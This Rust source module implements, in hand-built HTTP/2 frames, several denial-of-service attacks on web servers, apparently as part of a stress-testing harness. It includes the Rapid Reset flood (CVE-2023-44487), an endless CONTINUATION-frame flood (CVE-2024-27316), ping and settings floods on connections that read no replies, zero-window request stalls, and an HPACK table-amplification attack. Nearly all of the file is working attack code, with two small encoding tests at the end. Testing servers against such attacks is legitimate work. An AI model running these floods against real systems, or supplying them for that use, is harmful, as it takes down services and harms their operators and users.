//! Attacks over HTTP/2, in frames written by hand: what no client library would send.

use std::{io, sync::Arc};

use tokio::{io::AsyncWriteExt, net::TcpStream};

use super::front::{Front, drain, until_closed};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Kinds of frames: RFC 9113, section 6.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;

const CANCEL: u32 = 8;
const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 4;

/// The most that a frame may carry if nothing else was agreed.
const PAYLOAD_MAX: usize = 16 << 10;
/// Frames that are sent in one piece.
const BATCH: u32 = 50;
/// Requests whose answers one connection holds up.
const HELD_UP: u32 = 100;

/// Adds a frame.
fn frame(to: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("invariant: frames are small");
    to.extend_from_slice(&length.to_be_bytes()[1..]);
    to.extend_from_slice(&[kind, flags]);
    to.extend_from_slice(&stream.to_be_bytes());
    to.extend_from_slice(payload);
}

/// Adds a text as HPACK has it, not compressed: RFC 7541, section 5.2.
fn text(to: &mut Vec<u8>, text: &str) {
    let length = text.len();
    if length < 127 {
        to.extend(u8::try_from(length));
    } else {
        to.push(127);
        let mut rest = length - 127;
        while rest >= 128 {
            to.extend(u8::try_from(rest % 128 + 128));
            rest /= 128;
        }
        to.extend(u8::try_from(rest));
    }
    to.extend_from_slice(text.as_bytes());
}

/// The pseudo-header fields of `GET path`: RFC 7541, appendix A has the numbers.
fn get(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x01];
    text(&mut block, "x");
    block.push(0x04);
    text(&mut block, path);
    block
}

/// The beginning of a connection, with at most one setting.
fn opening(setting: Option<(u16, u32)>) -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    let payload = setting.map(|(name, value)| [&name.to_be_bytes()[..], &value.to_be_bytes()[..]].concat());
    frame(&mut bytes, SETTINGS, 0, 0, &payload.unwrap_or_default());
    frame(&mut bytes, SETTINGS, ACK, 0, &[]);
    bytes
}

/// The streams of a client, without end.
fn streams() -> impl Iterator<Item = u32> {
    (1..1 << 31).step_by(2)
}

/// Requests that are taken back at once: CVE-2023-44487. Every second connection takes them back a little later, when
/// the server has begun with them.
pub(super) async fn resets(front: Arc<Front>, stream: TcpStream) -> io::Result<()> {
    let later = stream.local_addr()?.port() % 2 == 0;
    let mut to = drain(stream);
    let (mut bytes, mut taken_back, head) = (opening(None), Vec::new(), get(&front.paths[0]));
    for (sent, stream) in (1..).zip(streams()) {
        frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, stream, &head);
        let at = if later { &mut taken_back } else { &mut bytes };
        frame(at, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
        if sent % BATCH == 0 {
            to.write_all(&bytes).await?;
            bytes.clear();
            bytes.append(&mut taken_back);
            front.sent(BATCH.into()).await;
        }
    }
    Ok(())
}

/// A head that never ends: CVE-2024-27316.
pub(super) async fn continuation(front: Arc<Front>, stream: TcpStream) -> io::Result<()> {
    let mut to = drain(stream);
    let mut bytes = opening(None);
    frame(&mut bytes, HEADERS, END_STREAM, 1, &get("/healthz"));
    to.write_all(&bytes).await?;
    let mut fields = vec![0x00];
    text(&mut fields, "a");
    text(&mut fields, &"b".repeat(1_000));
    bytes.clear();
    for _ in 0..BATCH {
        frame(&mut bytes, CONTINUATION, 0, 1, &fields);
    }
    loop {
        to.write_all(&bytes).await?;
        front.sent(BATCH.into()).await;
    }
}

/// Pings and settings, each of which wants an answer. Every second connection reads none.
pub(super) async fn pings(front: Arc<Front>, stream: TcpStream) -> io::Result<()> {
    let deaf = stream.local_addr()?.port() % 2 == 0;
    let (mut held, mut draining) = if deaf { (Some(stream), None) } else { (None, Some(drain(stream))) };
    let mut bytes = opening(None);
    for _ in 0..BATCH / 2 {
        frame(&mut bytes, PING, 0, 0, &[7; 8]);
        frame(&mut bytes, SETTINGS, 0, 0, &[]);
    }
    let mut from = 0;
    loop {
        match (&mut held, &mut draining) {
            (Some(stream), _) => stream.write_all(&bytes[from..]).await?,
            (_, Some(stream)) => stream.write_all(&bytes[from..]).await?,
            _ => {}
        }
        from = opening(None).len();
        front.sent(BATCH.into()).await;
    }
}

/// Requests for large answers, of which the server may send no byte, or one.
pub(super) async fn window(front: Arc<Front>, mut stream: TcpStream) -> io::Result<()> {
    let allowed = u32::from(stream.local_addr()?.port() % 2);
    let mut bytes = opening(Some((SETTINGS_INITIAL_WINDOW_SIZE, allowed)));
    for (path, stream) in front.paths.iter().cycle().zip(streams()).take(HELD_UP as usize) {
        frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, stream, &get(path));
    }
    stream.write_all(&bytes).await?;
    front.sent(HELD_UP.into()).await;
    until_closed(stream).await
}

/// A large field in the table of the connection, and heads that name it as often as a frame can.
pub(super) async fn large_heads(front: Arc<Front>, stream: TcpStream) -> io::Result<()> {
    let mut to = drain(stream);
    let mut streams = streams();
    let mut bytes = opening(None);
    let mut first = get("/healthz");
    // With its name and the 32 bytes that each entry counts for, just what the table of 4,096 bytes holds.
    first.push(0x40);
    text(&mut first, "a");
    text(&mut first, &"b".repeat(4_096 - 33));
    frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, streams.next().unwrap_or_default(), &first);
    // The newest entry has the first number after those of the static table.
    let mut again = get("/healthz");
    again.resize(PAYLOAD_MAX, 0x80 | 0x3e);
    for stream in streams {
        frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, stream, &again);
        to.write_all(&bytes).await?;
        bytes.clear();
        front.sent(1).await;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_begins_with_its_length_kind_flags_and_stream() {
        let mut bytes = Vec::new();
        frame(&mut bytes, RST_STREAM, 0, 3, &CANCEL.to_be_bytes());
        assert_eq!(bytes, [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }

    #[test]
    fn the_lengths_of_texts_are_as_in_rfc_7541() {
        for (length, wanted) in [(0, &[0][..]), (126, &[126]), (127, &[127, 0]), (1_337, &[127, 186, 9])] {
            let mut bytes = Vec::new();
            text(&mut bytes, &"a".repeat(length));
            assert_eq!(&bytes[..bytes.len() - length], wanted);
        }
    }
}
